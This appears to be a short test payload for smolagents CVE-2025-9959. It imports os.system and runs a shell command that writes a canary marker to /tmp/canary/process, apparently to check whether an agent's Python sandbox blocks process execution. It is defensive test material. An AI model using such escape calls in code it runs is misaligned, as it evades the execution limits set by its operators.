# source: smolagents CVE-2025-9959
# effect: process

from os import system

system("echo processes/os_system > /tmp/canary/process")
